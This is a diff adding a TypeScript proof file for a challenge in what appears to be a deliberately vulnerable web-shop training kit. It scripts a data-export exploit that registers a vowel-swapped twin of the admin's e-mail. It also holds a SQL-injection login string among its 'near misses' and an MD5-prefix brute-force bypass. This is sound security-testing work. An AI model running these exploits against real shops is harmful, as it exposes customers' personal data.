@@ -1,0 +1,115 @@
+import { createHash } from 'node:crypto'
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import type { ClientResponse } from '@fruit/world/client'
+import { challenge } from './challenge.ts'
+
+const PASSWORD = 'a ripe password'
+const ADDRESS = {
+  fullName: 'Quentin Pomace',
+  mobileNum: 5551234,
+  zipCode: 'OR 7',
+  streetAddress: '7 Windfall Lane',
+  city: 'Lower Orchard',
+  country: 'Pomona',
+}
+const CARD = { fullName: 'Quentin Pomace', cardNum: 7204615390847261, expMonth: 11, expYear: 2091 }
+const VOWEL = /[aeiou]/gi
+
+/** Registers an account with a chosen e-mail and signs in; the headers of its calls. */
+async function register(attacker: Attacker, email: string) {
+  expectStatus(await attacker.post('/api/Users', { email, password: PASSWORD, passwordRepeat: PASSWORD }), 201)
+  return signIn(attacker, email, PASSWORD)
+}
+
+async function signIn(attacker: Attacker, email: string, password: string) {
+  const login = await attacker.post('/rest/user/login', { email, password })
+  expectStatus(login, 200)
+  return { headers: { authorization: `Bearer ${login.json().authentication.token}` } }
+}
+
+async function exportAs(attacker: Attacker, email: string, body: object = { format: '1' }) {
+  const request = await register(attacker, email)
+  expectStatus(await attacker.post('/rest/user/data-export', body, request), 200)
+}
+
+/** A near miss that never got as far as it says would prove nothing. */
+function expectStatus({ status, text }: ClientResponse, expected: number) {
+  if (status !== expected) throw new Error(`The shop answered ${status}: ${text}`)
+}
+
+/** Orders a piece of product 2 as a new customer. */
+async function order(attacker: Attacker): Promise<string> {
+  const { basketId } = await attacker.becomeCustomer()
+  const addressId = (await attacker.post('/api/Addresss', ADDRESS)).json().data.id
+  const paymentId = (await attacker.post('/api/Cards', CARD)).json().data.id
+  await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
+  const orderDetails = { addressId, paymentId, deliveryMethodId: 1 }
+  const placed = await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
+  return placed.json().orderConfirmation
+}
+
+/** The address of the admin, which stands under the review of product 2. */
+async function victim(attacker: Attacker): Promise<string> {
+  const { data } = (await attacker.get('/rest/products/2/reviews')).json()
+  return data.map(({ author }: { author: string }) => author).find((author: string) => author.startsWith('admin@'))
+}
+
+const digits = (email: string) => createHash('md5').update(email).digest('hex').slice(0, 4)
+
+/** Another address with the same mask for which order numbers begin with the same four digits. */
+function twinWithSameNumbers(email: string): string {
+  const choices = 'aeiouAEIOU*'
+  const places = email.match(VOWEL)!.length
+  for (let number = 0; number < choices.length ** places; number++) {
+    let rest = number
+    const twin = email.replace(VOWEL, () => {
+      const choice = choices[rest % choices.length]!
+      rest = Math.floor(rest / choices.length)
+      return choice
+    })
+    if (twin !== email && digits(twin) === digits(email)) return twin
+  }
+  throw new Error(`No other address has the mask and the digits of ${email}`)
+}
+
+export const proof = prove(challenge, {
+  // The page of an order that is on its way shows what is left of an e-mail; reviews show whole ones.
+  exploit: async (attacker) => {
+    await attacker.get(`/rest/track-order/${await order(attacker)}`)
+    await exportAs(attacker, (await victim(attacker)).replace('i', 'u'))
+  },
+  nearMisses: {
+    'the export of one’s own orders': async (attacker) => {
+      await order(attacker)
+      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }), 200)
+    },
+    'the export of an account that has ordered nothing': async (attacker) => {
+      await attacker.becomeCustomer()
+      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }), 200)
+    },
+    'an address with another consonant': (attacker) => exportAs(attacker, `abmin@${attacker.domain}`),
+    'an address with a capital consonant': (attacker) => exportAs(attacker, `aDmin@${attacker.domain}`),
+    'an address with a letter that only sounds like a vowel': (attacker) =>
+      exportAs(attacker, `admyn@${attacker.domain}`),
+    'an address with a vowel more': (attacker) => exportAs(attacker, `admiin@${attacker.domain}`),
+    'the twin of a customer who has ordered nothing': (attacker) => exportAs(attacker, `jem@${attacker.domain}`),
+    'the address of somebody else in the body': (attacker) =>
+      exportAs(attacker, `plum@${attacker.domain}`, { format: '1', email: `admin@${attacker.domain}`, UserId: 1 }),
+    'a twin who only looks at the history of orders': async (attacker) => {
+      const twin = await register(attacker, `admun@${attacker.domain}`)
+      expectStatus(await attacker.get('/rest/order-history', twin), 200)
+    },
+    'a twin who misreads the picture': async (attacker) => {
+      const twin = await register(attacker, `admun@${attacker.domain}`)
+      await attacker.get('/rest/image-captcha/', twin)
+      expectStatus(await attacker.post('/rest/user/data-export', { format: '1', answer: '?????' }, twin), 401)
+    },
+    'the admin’s own data, by a login that asks for no password': async (attacker) => {
+      const admin = await signIn(attacker, `admin@${attacker.domain}'--`, 'x')
+      expectStatus(await attacker.post('/rest/user/data-export', {}, admin), 200)
+    },
+  },
+  bypasses: {
+    'compare-order-numbers': async (attacker) => exportAs(attacker, twinWithSameNumbers(await victim(attacker))),
+  },
+})
